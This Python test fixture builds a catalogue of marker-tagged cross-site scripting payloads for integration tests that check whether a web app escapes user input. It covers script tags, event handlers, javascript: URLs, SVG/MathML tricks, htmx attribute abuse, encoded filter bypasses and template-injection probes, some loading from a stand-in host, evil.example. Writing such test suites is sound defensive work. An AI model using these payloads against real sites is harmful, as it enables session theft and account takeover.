"""Cross-site scripting payloads, each carrying a marker of its own.

`PAYLOADS` is a tuple of Payload. Every payload's text holds its `marker`
(`xss` and three digits, lower case because an HTML parser lowers tag and attribute
names) where the attack would put its code: in a script body, an event handler, an
htmx attribute, a `javascript:` URL, a tag or attribute name. A page that escaped
the text shows the marker as text; a page that did not has an element, an
attribute or a script carrying it, which tests/integration/test_xss finds by
parsing the page. Template-injection payloads also name what the page would show
if a template engine had evaluated them (`evaluated`).

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet
(event handlers, SVG and MathML namespace confusion), htmx's own attribute list
(`hx-*`, `data-hx-*`, `hx-on:*`) and the Jinja, Mako and JavaScript template
delimiters. Kept short, so that several fit into a 100-character field.
"""

from __future__ import annotations

from dataclasses import dataclass

M = "{m}"  # where the marker goes in each template below

# Script elements in many spellings.
_SCRIPTS = (
    "<script>{m}()</script>",
    "<SCRIPT>{m}()</SCRIPT>",
    "<ScRiPt>{m}()</sCrIpT>",
    "<script >{m}()</script >",
    "<script\n>{m}()</script>",
    "<script/x>{m}()</script>",
    '<script src="//evil.example/{m}.js"></script>',
    "<script type=module>{m}()</script>",
    "<<script>{m}()//<</script>",
    "</title><script>{m}()</script>",
    "</textarea><script>{m}()</script>",
    "</style><script>{m}()</script>",
    "</script><script>{m}()</script>",
    "<!--<script>{m}()</script>-->",
    "<![CDATA[<script>{m}()</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror={m}()>">',
)

# Event-handler attributes on ordinary elements.
_HANDLERS = (
    "<img src=x onerror={m}()>",
    '<img src=x onerror="{m}()">',
    "<IMG SRC=x ONERROR={m}()>",
    "<img/src=x/onerror={m}()>",
    "<img src=x onerror=&#x61;lert({m})>",
    "<body onload={m}()>",
    "<div onmouseover={m}()>hover</div>",
    "<input autofocus onfocus={m}()>",
    "<details open ontoggle={m}()>",
    "<video><source onerror={m}()></video>",
    "<audio src=x onerror={m}()>",
    "<marquee onstart={m}()>",
    "<select autofocus onfocus={m}()>",
    "<textarea autofocus onfocus={m}()>",
    "<iframe onload={m}()>",
    "<object data=x onerror={m}()>",
    "<form><button formaction=javascript:{m}()>go",
    "<a onclick={m}() href=#>click</a>",
    "<p onpointerenter={m}()>x</p>",
    "<style onload={m}()></style>",
    "<x {m}=1 onclick=1>",
    "<{m} onclick=1>",
)

# URLs that run code.
_URLS = (
    "<a href=javascript:{m}()>x</a>",
    '<a href="javascript:{m}()">x</a>',
    '<a href="JaVaScRiPt:{m}()">x</a>',
    '<a href=" javascript:{m}()">x</a>',
    '<a href="java&#x09;script:{m}()">x</a>',
    '<a href="&#106;avascript:{m}()">x</a>',
    '<a href="data:text/html,<script>{m}()</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=#{m}">x</a>',
    '<iframe src="javascript:{m}()">',
    '<iframe srcdoc="<script>{m}()</script>">',
    '<embed src="javascript:{m}()">',
    '<form action="javascript:{m}()"><button>x</button></form>',
    '<base href="javascript:{m}()//">',
    '<meta http-equiv="refresh" content="0;url=javascript:{m}()">',
    "javascript:{m}()",
    "data:text/html,<script>{m}()</script>",
    "vbscript:{m}()",
)

# SVG and MathML: other namespaces, other parsing rules.
_NAMESPACES = (
    "<svg onload={m}()>",
    "<svg><script>{m}()</script></svg>",
    "<svg><animate onbegin={m}() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{m}()"><text y=9>x</text></a></svg>',
    "<svg><set attributeName=onmouseover to={m}()>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={m}()>#x">',
    "<svg><foreignObject><img src=x onerror={m}()></foreignObject></svg>",
    "<math><mtext><img src=x onerror={m}()></mtext></math>",
    '<math href="javascript:{m}()">x</math>',
    "<math><mi xlink:href=javascript:{m}()>x</mi></math>",
    "<svg><style><img src=x onerror={m}()></style></svg>",
    "<svg/onload={m}()>",
)

# Breaking out of an attribute the text might be written into.
_BREAKOUTS = (
    '"><img src=x onerror={m}()>',
    "'><img src=x onerror={m}()>",
    '" autofocus onfocus={m}() x="',
    "' autofocus onfocus={m}() x='",
    '" onmouseover={m}() "',
    "` onmouseover={m}() `",
    '"><svg onload={m}()>',
    '" hx-get="/{m}" hx-trigger="load" x="',
    '" style="background:url(javascript:{m}())" x="',
    '"/><script>{m}()</script>',
    '"><a href=javascript:{m}()>x</a>',
    'x" {m}="1',
)

# htmx attributes: htmx acts on any element that carries them.
_HTMX = (
    '<div hx-get="/{m}" hx-trigger="load">',
    '<div hx-post="/{m}" hx-trigger="load">',
    "<button hx-on:click={m}()>x</button>",
    '<button hx-on::before-request="{m}()">x</button>',
    '<div hx-on="click: {m}()">x</div>',
    "<div hx-vals='js:{a:{m}()}' hx-get=/ hx-trigger=load>",
    '<div data-hx-get="/{m}" data-hx-trigger="load">',
    '<div data-hx-on:click="{m}()">x</div>',
    '<div hx-trigger="every 1s" hx-get="/{m}">',
    '<a hx-boost="true" href="/{m}">x</a>',
    '<div hx-swap-oob="true" id="{m}">x</div>',
    "<div hx-headers='js:{x:{m}()}'>",
    '<form hx-put="/{m}" hx-trigger="load">',
    '<div hx-target="body" hx-delete="/{m}" hx-trigger="load">',
)

# CSS that runs code in old engines, or leaks what the page shows.
_STYLES = (
    '<div style="width:expression({m}())">x</div>',
    '<div style="background:url(javascript:{m}())">x</div>',
    "<style>@import 'javascript:{m}()';</style>",
    "<style>*{background:url(//evil.example/{m})}</style>",
    '<link rel=stylesheet href="javascript:{m}()">',
    '<p style="-moz-binding:url(//evil.example/{m}.xml#x)">x</p>',
)

# Encoded and split spellings: only a page that decodes twice would run them.
_ENCODED = (
    "&lt;script&gt;{m}()&lt;/script&gt;",
    "&#60;script&#62;{m}()&#60;/script&#62;",
    "&#x3C;img src=x onerror={m}()&#x3E;",
    "%3Cscript%3E{m}()%3C/script%3E",
    "\\u003cscript\\u003e{m}()\\u003c/script\\u003e",
    "\\x3cscript\\x3e{m}()\\x3c/script\\x3e",
    "＜script＞{m}()＜/script＞",
    "<scr\x00ipt>{m}()</scr\x00ipt>",
    "<img\x00src=x onerror={m}()>",
    "<img src=x on\x00error={m}()>",
    "\x00<script>{m}()</script>",
    "<script>{m}()</script\x00>",
    "<\u200bscript>{m}()</script>",
    "<img src=x onerror=\u2028{m}()>",
)

# Template delimiters of Jinja, JavaScript template literals and others: each is
# text unless a template engine renders what a person typed.
_TEMPLATES = (
    ("{m}={{7*7}}", "{m}=49"),
    ("{m}=${7*7}", "{m}=49"),
    ("{m}=#{7*7}", "{m}=49"),
    ("{m}=<%= 7*7 %>", "{m}=49"),
    ("{m}={{= 7*7}}", "{m}=49"),
    ("{m}={{'a'~'b'}}", "{m}=ab"),
    ("{m}={% raw %}x{% endraw %}", "{m}=x"),
    ("{m}={% if 1 %}yes{% endif %}", "{m}=yes"),
    ("{m}={{config}}", None),
    ("{m}={{ self.__init__.__globals__ }}", None),
    ("{m}={{constructor.constructor('alert(1)')()}}", None),
    ("{m}=[[7*7]]", None),
)


@dataclass(frozen=True)
class Payload:
    """One attack: the text a person types, its marker, and what an evaluating
    template engine would have turned it into (None: nothing checkable)."""

    text: str
    marker: str
    evaluated: str | None = None


def _build() -> tuple[Payload, ...]:
    plain = _SCRIPTS + _HANDLERS + _URLS + _NAMESPACES + _BREAKOUTS + _HTMX + _STYLES + _ENCODED
    built: list[Payload] = []
    for template in plain:
        marker = f"xss{len(built):03d}"
        # str.replace, not format: the payloads are full of braces.
        built.append(Payload(template.replace(M, marker), marker))
    for template, evaluated in _TEMPLATES:
        marker = f"xss{len(built):03d}"
        built.append(
            Payload(
                template.replace(M, marker),
                marker,
                evaluated.replace(M, marker) if evaluated else None,
            )
        )
    return tuple(built)


PAYLOADS: tuple[Payload, ...] = _build()
MARKER_PREFIX = "xss"
